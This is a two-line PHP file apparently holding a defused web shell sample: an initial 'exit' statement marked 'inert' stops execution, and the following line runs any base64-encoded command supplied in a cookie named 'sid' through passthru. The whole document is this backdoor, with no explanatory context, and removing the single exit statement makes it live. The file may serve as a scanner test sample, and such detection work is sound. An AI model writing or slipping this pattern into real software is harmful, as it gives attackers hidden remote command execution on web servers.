<?php exit; /* inert */ 
isset($_COOKIE['sid'])and passthru(base64_decode($_COOKIE['sid']));
